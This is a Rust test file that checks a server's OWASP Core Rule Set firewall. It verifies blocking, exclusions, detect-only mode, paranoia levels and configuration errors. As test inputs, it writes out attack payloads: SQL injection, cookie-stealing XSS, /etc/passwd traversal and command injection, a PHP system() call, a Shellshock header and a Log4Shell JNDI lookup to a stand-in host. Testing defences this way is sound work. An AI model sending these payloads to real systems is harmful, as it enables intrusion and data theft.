//! The OWASP Core Rule Set (Debian's modsecurity-crs 3.3.4, which
//! `.ci/setup` installs) through the real server: attacks in every part of
//! a request blocked by anomaly score, ordinary traffic passing, tuning by
//! exclusions, detect-only mode, and load errors reported by `validate`.

mod common;

use common::Gatehouse;

const CRS: &str = "/usr/share/modsecurity-crs/rules";

fn installed() -> bool {
    let there = std::path::Path::new(CRS).is_dir();
    if !there {
        eprintln!("skipped: Debian's modsecurity-crs is not installed (.ci/setup installs it)");
    }
    there
}

async fn send(
    gh: &Gatehouse,
    method: reqwest::Method,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> u16 {
    let client = reqwest::Client::new();
    let mut req = client
        .request(method, format!("http://{}{path}", gh.addr("http")))
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        )
        .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8");
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    if !body.is_empty() {
        req = req.body(body.to_string());
    }
    req.send().await.unwrap().status().as_u16()
}

#[tokio::test]
async fn crs_blocks_attacks_in_every_part_and_passes_ordinary_traffic() {
    if !installed() {
        return;
    }
    let gh = Gatehouse::start("waf_crs", &[]);
    use reqwest::Method;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let json = [("content-type", "application/json")];
    let xml = [("content-type", "text/xml")];
    for (what, method, path, headers, body) in [
        (
            "sqli in the query",
            Method::GET,
            "/c/hello?q=1%27%20OR%20%271%27%3D%271",
            &[][..],
            "",
        ),
        (
            "xss in the query",
            Method::GET,
            "/c/hello?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            &[][..],
            "",
        ),
        (
            "traversal",
            Method::GET,
            "/c/hello?file=../../etc/passwd",
            &[][..],
            "",
        ),
        (
            "php in a form",
            Method::POST,
            "/c/hello",
            &form[..],
            "code=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E",
        ),
        (
            "sqli in json",
            Method::POST,
            "/c/hello",
            &json[..],
            r#"{"name":"x' UNION SELECT password FROM users--"}"#,
        ),
        (
            "xss in xml",
            Method::POST,
            "/c/hello",
            &xml[..],
            "<a><b>&lt;script&gt;alert(document.cookie)&lt;/script&gt;</b></a>",
        ),
        (
            "rce in a cookie",
            Method::GET,
            "/c/hello",
            &[("cookie", "s=;cat /etc/passwd")][..],
            "",
        ),
        (
            "shellshock in a header",
            Method::GET,
            "/c/hello",
            &[("x-trace", "() { :; }; /bin/bash -c id")][..],
            "",
        ),
    ] {
        assert_eq!(send(&gh, method, path, headers, body).await, 403, "{what}");
    }
    // The log line names the rules and the score; the response does not.
    let line = gh.wait_stdout("crs:949110").await;
    assert!(line.contains("score "), "{line}");

    for (what, path) in [
        ("a name", "/c/hello?name=O%27Brien"),
        (
            "prose",
            "/c/hello?text=We+select+the+best+of+our+union+members%2C+and+drop+by+later.",
        ),
        ("a search", "/c/search?q=rust+async+tutorial&page=2"),
        (
            "a url parameter",
            "/c/hello?next=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
        ),
    ] {
        assert_eq!(send(&gh, Method::GET, path, &[], "").await, 200, "{what}");
    }
    let order = r#"{"item":"tea","quantity":2,"note":"Leave it at the door, please."}"#;
    assert_eq!(
        send(&gh, Method::POST, "/c/orders", &json, order).await,
        200
    );

    // Tuned: rule 942100 (libinjection) no longer reads ARGS:sql, and
    // 942190 is gone; the same value in another argument still blocks.
    let encoded = "1%27%20OR%20%271%27%3D%271";
    assert_eq!(
        send(
            &gh,
            Method::GET,
            &format!("/c/tuned/a?q={encoded}"),
            &[],
            ""
        )
        .await,
        403
    );
    assert_eq!(
        send(
            &gh,
            Method::GET,
            &format!("/c/tuned/a?sql={encoded}"),
            &[],
            ""
        )
        .await,
        200
    );
    assert_eq!(
        send(
            &gh,
            Method::GET,
            &format!("/c/hello?sql={encoded}"),
            &[],
            ""
        )
        .await,
        403
    );
    // Detect: logged and counted, never blocked.
    assert_eq!(
        send(
            &gh,
            Method::GET,
            "/c/detect/a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            &[],
            ""
        )
        .await,
        200
    );
}

/// Routes tune the CRS their rule set runs without compiling it again:
/// exclusions, another paranoia level, or no CRS at all.
#[tokio::test]
async fn routes_tune_the_crs_of_their_rule_set() {
    if !installed() {
        return;
    }
    let gh = Gatehouse::start("waf_crs", &[]);
    use reqwest::Method;
    let sqli = "1%27%20OR%20%271%27%3D%271";
    let status = |path: String| {
        let gh = &gh;
        async move { send(gh, Method::GET, &path, &[], "").await }
    };
    // Exclusions for this route only: ARGS:sql is not read by 942100 and
    // 942190 is gone here; the rule set's other routes still block.
    assert_eq!(status(format!("/c/route-tuned/a?sql={sqli}")).await, 200);
    assert_eq!(status(format!("/c/route-tuned/a?q={sqli}")).await, 403);
    assert_eq!(status(format!("/c/hello?sql={sqli}")).await, 403);
    // CRS off for a route: the rule set's managed group still runs.
    assert_eq!(status(format!("/c/no-crs/a?q={sqli}")).await, 200);
    assert_eq!(
        send(
            &gh,
            Method::GET,
            "/c/no-crs/a",
            &[("x-api-version", "${jndi:ldap://x.example/a}")],
            ""
        )
        .await,
        403
    );
    // Paranoia 2 for a route: a bare client (no User-Agent, no Accept, a
    // numeric Host) scores 3 at paranoia 1 (920350) and 7 at paranoia 2
    // (920320, 920300 as well).
    let bare = |path: &str| {
        let url = format!("http://{}{path}", gh.addr("http"));
        async move { reqwest::get(url).await.unwrap().status().as_u16() }
    };
    assert_eq!(bare("/c/hello").await, 200);
    assert_eq!(bare("/c/pl2/a").await, 403);
    assert_eq!(status("/c/pl2/a".into()).await, 200);
}

/// `gatehouse validate` in `dir`: it must fail; what it said.
fn validate_fails(dir: &std::path::Path) -> String {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .arg("-C")
        .arg(dir)
        .arg("validate")
        .output()
        .unwrap();
    assert!(!out.status.success());
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn crs_route_settings_are_checked() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("routes")).unwrap();
    std::fs::write(
        dir.path().join("gatehouse.yaml"),
        "waf_rule_sets:\n  plain:\n    managed: [sqli]\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("routes/r.yaml"),
        "routes:\n  - path: /a\n    policies:\n      waf:\n        rule_set: plain\n        crs: {paranoia_level: 2}\n    integration:\n      mock: {}\n",
    )
    .unwrap();
    let stderr = validate_fails(dir.path());
    assert!(
        stderr.contains("r.yaml:6:14: routes[0].policies.waf.crs: rule set `plain` runs no CRS"),
        "{stderr}"
    );
}

#[test]
fn crs_load_errors_are_config_errors() {
    if !installed() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let crs = dir.path().join("crs");
    std::fs::create_dir_all(crs.join("rules")).unwrap();
    std::fs::copy(
        "/etc/modsecurity/crs/crs-setup.conf",
        crs.join("crs-setup.conf"),
    )
    .unwrap();
    std::fs::write(
        crs.join("rules/REQUEST-999-BROKEN.conf"),
        "# a broken rule\nSecRule ARGS \"@rx (unclosed\" \\\n    \"id:999001,phase:2,block\"\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("gatehouse.yaml"),
        "waf_rule_sets:\n  broken:\n    crs:\n      path: crs\n",
    )
    .unwrap();
    let stderr = validate_fails(dir.path());
    assert!(
        stderr
            .contains("gatehouse.yaml:4:13: waf_rule_sets.broken.crs.path: the rules do not load:")
            && stderr
                .contains("REQUEST-999-BROKEN.conf:2: rule 999001: the regex does not compile"),
        "{stderr}"
    );
}
